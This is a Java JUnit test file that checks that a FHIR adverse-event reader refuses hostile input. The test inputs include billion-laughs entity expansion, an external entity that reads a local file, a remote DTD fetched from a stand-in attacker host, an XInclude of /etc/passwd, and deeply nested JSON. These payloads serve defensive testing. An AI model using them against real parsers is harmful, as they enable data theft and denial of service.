package org.exovigil.vigilance.fhir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ca.uhn.fhir.parser.DataFormatException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.exovigil.vigilance.Checked;
import org.exovigil.vigilance.Problem;
import org.exovigil.vigilance.ProblemCode;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Input written to attack a parser (OWASP XXE Prevention Cheat Sheet; billion laughs; deep nesting; sheer
 * size) is refused with one problem, quickly, and nothing is read, fetched or expanded. Two layers are
 * tested: the reader's own refusal of any DOCTYPE or ENTITY declaration, and under it HAPI's StAX parser,
 * which is shown here to refuse the same payloads on its own.
 */
class HostileFhirTest {

    @TempDir
    Path dir;

    private static final String BILLION_LAUGHS = """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [
             <!ENTITY lol "lol">
             <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
             <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
             <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
             <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
             <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
             <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
             <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
             <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
             <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            <AdverseEvent xmlns="http://hl7.org/fhir"><event><text value="&lol9;"/></event></AdverseEvent>
            """;

    private String externalEntity() throws IOException {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-PATIENT-LIST");
        return """
                <?xml version="1.0"?>
                <!DOCTYPE AdverseEvent [<!ENTITY leak SYSTEM "%s">]>
                <AdverseEvent xmlns="http://hl7.org/fhir"><event><text value="&leak;"/></event></AdverseEvent>
                """.formatted(secret.toUri());
    }

    private static Checked<List<FhirCase>> read(String body, FhirFormat format) {
        return Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(5), () -> FhirReader.withDefaults().read(body, format));
    }

    private static Problem onlyProblem(Checked<?> checked) {
        assertThat(checked.problems()).hasSize(1);
        return checked.problems().getFirst();
    }

    @Test
    void anExternalEntityThatWouldReadALocalFileIsRefused() throws IOException {
        Problem problem = onlyProblem(read(externalEntity(), FhirFormat.XML));

        assertThat(problem.code()).isEqualTo(ProblemCode.XML_DECLARATION_REFUSED);
        assertThat(problem.toString()).doesNotContain("TOP-SECRET");
    }

    @Test
    void aBillionLaughsIsRefusedWithoutExpansion() {
        assertThat(onlyProblem(read(BILLION_LAUGHS, FhirFormat.XML)).code())
                .isEqualTo(ProblemCode.XML_DECLARATION_REFUSED);
    }

    @Test
    void aParameterEntityThatWouldFetchARemoteDtdIsRefused() {
        String remote = """
                <?xml version="1.0"?>
                <!DOCTYPE AdverseEvent [<!ENTITY % dtd SYSTEM "http://attacker.invalid/evil.dtd"> %dtd;]>
                <AdverseEvent xmlns="http://hl7.org/fhir"/>
                """;

        assertThat(onlyProblem(read(remote, FhirFormat.XML)).code()).isEqualTo(ProblemCode.XML_DECLARATION_REFUSED);
    }

    @Test
    void evenAHarmlessDoctypeIsRefusedBecauseFhirNeverNeedsOne() {
        String doctype = "<!DOCTYPE AdverseEvent><AdverseEvent xmlns=\"http://hl7.org/fhir\"/>";

        assertThat(onlyProblem(read(doctype, FhirFormat.XML)).code()).isEqualTo(ProblemCode.XML_DECLARATION_REFUSED);
    }

    /** The second layer: without the reader's refusal, HAPI's parser still neither reads nor expands. */
    @Test
    void hapisOwnParserRefusesTheSamePayloadsWithoutReadingOrExpanding() throws IOException {
        String external = externalEntity();
        for (String payload : List.of(external, BILLION_LAUGHS)) {
            Assertions.assertTimeoutPreemptively(
                    Duration.ofSeconds(5),
                    () -> assertThatThrownBy(() -> FhirR4.parser(FhirFormat.XML).parseResource(payload))
                            .isInstanceOf(DataFormatException.class)
                            .hasMessageContaining("Undeclared general entity")
                            .message()
                            .doesNotContain("TOP-SECRET"));
        }
    }

    @Test
    void anXIncludeIsNotFollowedButReportedAsAnUnknownElement() {
        String include = "<AdverseEvent xmlns=\"http://hl7.org/fhir\"><xi:include"
                + " xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/></AdverseEvent>";

        Checked<List<FhirCase>> read = read(include, FhirFormat.XML);

        assertThat(read.isAccepted()).isFalse();
        assertThat(read.problems()).extracting(Problem::code).contains(ProblemCode.UNKNOWN_FIELD);
        assertThat(read.problems().toString()).doesNotContain("root:");
    }

    @Test
    void jsonNestedDeeperThanAnyResourceIsOneProblemNotAStackOverflow() {
        String deep = "{\"resourceType\":\"AdverseEvent\",\"event\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}";

        assertThat(onlyProblem(read(deep, FhirFormat.JSON)).code()).isEqualTo(ProblemCode.NOT_JSON);
    }

    @Test
    void anInputAboveTheSizeLimitIsRefusedBeforeParsing() {
        String big = FhirWriter.write(FhirFixtures.rich(), FhirFormat.JSON);

        Checked<List<FhirCase>> read =
                FhirReader.withDefaults().withSizeLimit(1_000).read(big, FhirFormat.JSON);

        assertThat(onlyProblem(read).code()).isEqualTo(ProblemCode.TOO_LARGE);
    }
}
